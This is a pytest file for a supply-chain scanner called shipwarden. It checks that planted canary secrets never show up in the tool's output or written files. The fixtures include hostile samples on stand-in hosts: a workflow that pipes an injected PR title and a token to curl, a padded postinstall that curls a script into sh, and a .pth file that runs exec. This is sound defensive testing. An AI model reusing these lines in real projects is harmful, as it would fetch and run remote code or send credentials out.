"""Canary test: no secret from the input ever leaves shipwarden (issue 10, class 6).

Inputs are seeded at test time with canary secrets in every place a secret
has leaked from before: a ``ghp_`` token on a workflow line with an injection,
an AWS secret in a workflow ``env`` and in a ``package.json`` snippet, a token
cut short inside a long quoted install script, ``git+https://user:token@``
dependency URLs (``package.json``, ``package-lock.json``,
``requirements.txt``), an index URL password, a token in a ``.pth`` file, a
private key body, a generic ``password = …`` value, and credential files of a
fake home (``.npmrc``, ``.git-credentials``, ``.aws/credentials``,
``.pypirc``) plus an environment variable.

Every command the CLI offers (discovered from the parser, so a new command is
covered without editing this file) runs in every ``--format`` it accepts,
with ``--output`` and ``--write-baseline`` where it has them, ``deps
--write-allowlist``, ``assess``'s reports and database, and a cache directory.
The test fails if any 8-character substring of any canary appears in stdout,
stderr or any file written under the test's directories.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import random
import shutil
import string
import tarfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from shipwarden import cli

_RNG = random.Random(20261206)
_ALNUM = string.ascii_letters + string.digits


def _rand(n: int, alphabet: str = _ALNUM) -> str:
    while True:
        value = "".join(_RNG.choice(alphabet) for _ in range(n))
        if any(c.isdigit() for c in value) and any(c.isupper() for c in value) and any(c.islower() for c in value):
            return value


def _b64(n: int) -> str:
    return _rand(n, _ALNUM + "+/")


#: The canaries, by where they are planted. Made fresh for each run of the suite.
CANARIES: dict[str, str] = {
    "workflow_ghp": "ghp_" + _rand(36),
    "workflow_aws": _b64(40),
    "script_ghp": "ghp_" + _rand(36),
    "script_npm": "npm_" + _rand(36),
    "manifest_aws": _b64(40),
    "dep_url_token": _rand(24),
    "lock_url_token": _rand(24),
    "req_url_password": _rand(18),
    "index_password": _rand(16),
    "pth_token": "ghp_" + _rand(36),
    "generic_password": _rand(20),
    "pem_body": "\n".join(_b64(64) for _ in range(6)),
    "home_npmrc": "npm_" + _rand(36),
    "home_git_credentials": "ghp_" + _rand(36),
    "home_aws": _b64(40),
    "home_pypirc": "pypi-AgEIcHlwaS5vcmc" + _rand(70, _ALNUM + "-_"),
    "env_token": "ghp_" + _rand(36),
}


def _pieces(canary: str) -> set[str]:
    text = canary.replace("\n", "")
    return {text[i : i + 8] for i in range(len(text) - 7)}


#: Fixed prefixes are not secret (a redacted form may show ``ghp_``/``npm_``).
_PUBLIC = {"pypi-AgE", "ypi-AgEI", "pi-AgEIc", "i-AgEIcH", "-AgEIcHl", "AgEIcHlw", "gEIcHlwa", "EIcHlwaS",
           "IcHlwaS5", "cHlwaS5v", "HlwaS5vc", "lwaS5vcm", "waS5vcmc"}
PIECES: dict[str, str] = {p: name for name, value in CANARIES.items() for p in _pieces(value) if p not in _PUBLIC}


def _pem() -> str:
    armour = "PRIVATE" + " KEY"
    return f"-----BEGIN RSA {armour}-----\n{CANARIES['pem_body']}\n-----END RSA {armour}-----\n"


def build_project(root: Path) -> None:
    c = CANARIES
    wf = root / ".github" / "workflows"
    wf.mkdir(parents=True)
    (wf / "release.yml").write_text(
        "name: release\n"
        "on: pull_request_target\n"
        "jobs:\n"
        "  build:\n"
        "    runs-on: ubuntu-latest\n"
        "    env:\n"
        f"      AWS_SECRET_ACCESS_KEY: {c['workflow_aws']}\n"
        "    steps:\n"
        "      - uses: actions/checkout@v4\n"
        "        with:\n"
        "          ref: ${{ github.event.pull_request.head.sha }}\n"
        "      - run: |\n"
        f"          echo \"${{{{ github.event.pull_request.title }}}}\" | curl -H \"Authorization: token "
        f"{c['workflow_ghp']}\" -d @- https://hooks.example.invalid\n"
        "      - run: npm publish\n"
        "        env:\n"
        "          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
        encoding="utf-8",
    )
    padding = " && ".join(f"echo step{i}" for i in range(40))
    manifest = {
        "name": "canary-pkg",
        "version": "1.0.0",
        "scripts": {
            "postinstall": f"{padding} && curl -fsSL -H 'Authorization: token {c['script_ghp']}' "
            f"https://x.example.invalid/i.sh | NPM_TOKEN={c['script_npm']} sh",
        },
        "dependencies": {"left-pad": f"git+https://deploy:{c['dep_url_token']}@git.example.invalid/left-pad.git"},
        "config": {"aws_secret_access_key": c["manifest_aws"]},
    }
    (root / "package.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    lock = {
        "name": "canary-pkg",
        "version": "1.0.0",
        "lockfileVersion": 3,
        "requires": True,
        "packages": {
            "": {"name": "canary-pkg", "version": "1.0.0", "dependencies": {"left-pad": "*"}},
            "node_modules/left-pad": {
                "version": "1.3.0",
                "resolved": f"git+https://deploy:{c['lock_url_token']}@git.example.invalid/left-pad.git#abc123",
                "hasInstallScript": True,
            },
        },
    }
    (root / "package-lock.json").write_text(json.dumps(lock, indent=2), encoding="utf-8")
    nm = root / "node_modules" / "left-pad"
    nm.mkdir(parents=True)
    (nm / "package.json").write_text(
        json.dumps(
            {
                "name": "left-pad",
                "version": "1.3.0",
                "scripts": {"postinstall": f"{padding} && NPM_TOKEN={c['script_npm']} node install.js"},
            }
        ),
        encoding="utf-8",
    )
    (root / "requirements.txt").write_text(
        f"--index-url https://ci:{c['index_password']}@pypi.example.invalid/simple\n"
        f"tool @ git+https://ci:{c['req_url_password']}@git.example.invalid/tool.git@v1\n",
        encoding="utf-8",
    )
    site = root / ".venv" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (site / "evil.pth").write_text(
        f"import os; os.environ.setdefault('GH_TOKEN', '{c['pth_token']}'); exec('print(1)')\n", encoding="utf-8"
    )
    (root / "config.js").write_text(f'module.exports = {{ db_password: "{c["generic_password"]}" }};\n')
    (root / "deploy_key.pem").write_text(_pem(), encoding="utf-8")


def build_home(home: Path) -> None:
    c = CANARIES
    home.mkdir(parents=True)
    (home / ".npmrc").write_text(f"//registry.example.invalid/:_authToken={c['home_npmrc']}\n", encoding="utf-8")
    (home / ".git-credentials").write_text(
        f"https://user:{c['home_git_credentials']}@git.example.invalid\n", encoding="utf-8"
    )
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(
        f"[default]\naws_access_key_id = AKIAQ3EGRTJ6T5WLMXPN\naws_secret_access_key = {c['home_aws']}\n",
        encoding="utf-8",
    )
    (home / ".pypirc").write_text(
        f"[pypi]\nusername = __token__\npassword = {c['home_pypirc']}\n", encoding="utf-8"
    )
    for name in (".npmrc", ".git-credentials", ".pypirc"):
        (home / name).chmod(0o644)


def build_tarball(root: Path, dest: Path) -> Path:
    with tarfile.open(dest, "w:gz") as tar:
        for rel in ("package.json", "config.js", "deploy_key.pem"):
            tar.add(root / rel, arcname=f"package/{rel}")
    return dest


@dataclass
class Run:
    argv: list[str]
    out: str
    err: str
    code: int


@dataclass
class World:
    tmp: Path
    root: Path
    home: Path
    tgz: Path
    outdir: Path
    cache: Path
    runs: list[Run] = field(default_factory=list)


def _subparsers() -> dict[str, argparse.ArgumentParser]:
    parser = cli.build_parser()
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            return dict(action.choices)
    raise AssertionError("the CLI has no commands")


def _option(parser: argparse.ArgumentParser, flag: str) -> argparse.Action | None:
    for action in parser._actions:
        if flag in action.option_strings:
            return action
    return None


def _formats(parser: argparse.ArgumentParser) -> list[str]:
    action = _option(parser, "--format")
    return list(action.choices) if action is not None and action.choices else ["text"]


def _base_args(name: str, world: World) -> list[str]:
    """Arguments that make each known command read the seeded input; a new command gets the project root."""
    known = {
        "scan": [str(world.root)],
        "paths": [str(world.root)],
        "gate": [str(world.root), "--packlist", "builtin", "--cache-dir", str(world.cache)],
        "deps": [str(world.root)],
        "endpoint": [str(world.home)],
        "provenance": [str(world.tgz), "--offline"],
        "assess": [str(world.root), "--db", str(world.outdir / "history.sqlite"), "--endpoint", str(world.home)],
        "history": [str(world.root), "--db", str(world.outdir / "history.sqlite")],
        "detonate": [str(world.root), "--timeout", "30", "--cache-dir", str(world.cache)],
    }
    return known.get(name, [str(world.root)])


def _run(argv: list[str], capfd: pytest.CaptureFixture[str]) -> Run:
    try:
        code = cli.main(argv)
    except SystemExit as exc:  # argparse
        code = int(exc.code or 0)
    out, err = capfd.readouterr()
    return Run(argv, out, err, code)


def _leaks(text: str) -> list[str]:
    return sorted({f"{PIECES[text[i : i + 8]]} ({text[i : i + 8]!r})" for i in range(len(text) - 7) if text[i : i + 8] in PIECES})


def _files(*dirs: Path) -> Iterator[Path]:
    for d in dirs:
        if d.exists():
            yield from (p for p in d.rglob("*") if p.is_file())


@pytest.fixture(scope="module")
def _unused() -> None:  # pragma: no cover - keeps pytest from collecting helpers as tests
    return None


def test_no_canary_leaves_shipwarden(tmp_path: Path, capfd: pytest.CaptureFixture[str],
                                     monkeypatch: pytest.MonkeyPatch) -> None:
    world = World(tmp_path, tmp_path / "project", tmp_path / "home", tmp_path / "canary-pkg-1.0.0.tgz",
                  tmp_path / "out", tmp_path / "cache")
    build_project(world.root)
    build_home(world.home)
    build_tarball(world.root, world.tgz)
    world.outdir.mkdir()
    monkeypatch.setenv("HOME", str(world.home))
    monkeypatch.setenv("XDG_CACHE_HOME", str(world.cache))
    monkeypatch.setenv("SHIPWARDEN_CACHE_DIR", str(world.cache))
    monkeypatch.setenv("GH_TOKEN", CANARIES["env_token"])
    monkeypatch.delenv("CI", raising=False) if os.environ.get("CI") != "true" else None
    monkeypatch.chdir(tmp_path)
    have_bwrap = shutil.which("bwrap") is not None

    commands = _subparsers()
    assert {"scan", "paths", "gate", "deps", "endpoint"} <= set(commands)
    ran: set[str] = set()
    for name, parser in commands.items():
        if name == "detonate" and not have_bwrap:
            continue  # needs bubblewrap; the sandbox tests require it in CI
        base = [name, *_base_args(name, world)]
        formats = _formats(parser)
        for fmt in formats:
            extra = ["--format", fmt] if _option(parser, "--format") else []
            if _option(parser, "--fail-on"):
                extra += ["--fail-on", "none"]
            world.runs.append(_run(base + extra, capfd))
            if _option(parser, "--output"):
                world.runs.append(_run(base + extra + ["--output", str(world.outdir / f"{name}.{fmt}.out")], capfd))
        if _option(parser, "--write-baseline"):
            world.runs.append(_run(base + ["--write-baseline", str(world.outdir / f"{name}.baseline.json")], capfd))
        if _option(parser, "--write-allowlist"):
            world.runs.append(_run(base + ["--write-allowlist", str(world.outdir / f"{name}.allowlist.toml")], capfd))
        for flag, ext in (("--html", "html"), ("--markdown", "md"), ("--json", "json"), ("--badge", "svg"),
                          ("--sbom", "cdx.json")):
            if _option(parser, flag):
                world.runs.append(_run(base + [flag, str(world.outdir / f"{name}.report.{ext}")], capfd))
        ran.add(name)

    # the commands really read the canaries (otherwise the test proves nothing)
    scan_json = next(r for r in world.runs if r.argv[:1] == ["scan"] and "json" in r.argv and "--output" not in r.argv)
    assert "template-injection" in scan_json.out
    gate_json = next(r for r in world.runs if r.argv[:1] == ["gate"] and "json" in r.argv and "--output" not in r.argv)
    assert "gate-secret" in gate_json.out
    endpoint_json = next(r for r in world.runs if r.argv[:1] == ["endpoint"] and "json" in r.argv)
    assert "…[fp:" in endpoint_json.out

    problems: list[str] = []
    for run in world.runs:
        for stream, text in (("stdout", run.out), ("stderr", run.err)):
            leaks = _leaks(text)
            if leaks:
                problems.append(f"shipwarden {' '.join(run.argv)}: {stream} carries {', '.join(leaks)}")
    written = list(_files(world.outdir, world.cache))
    for path in written:
        leaks = _leaks(path.read_bytes().decode("utf-8", "replace"))
        if leaks:
            problems.append(f"{path.relative_to(tmp_path)}: carries {', '.join(leaks)}")
    assert not problems, "\n".join(problems)
    assert written, "no file was written"
    assert ran >= {"scan", "paths", "gate", "deps", "endpoint"}


def test_the_check_sees_a_leak() -> None:
    """The detector of this test works: a cut canary (9 characters) is caught."""
    value = CANARIES["script_ghp"]
    assert _leaks(f"… {value[10:19]} …")
    assert not _leaks("ghp_" + "…[fp:0123456789ab]")
    assert isinstance(io.StringIO().getvalue(), str)
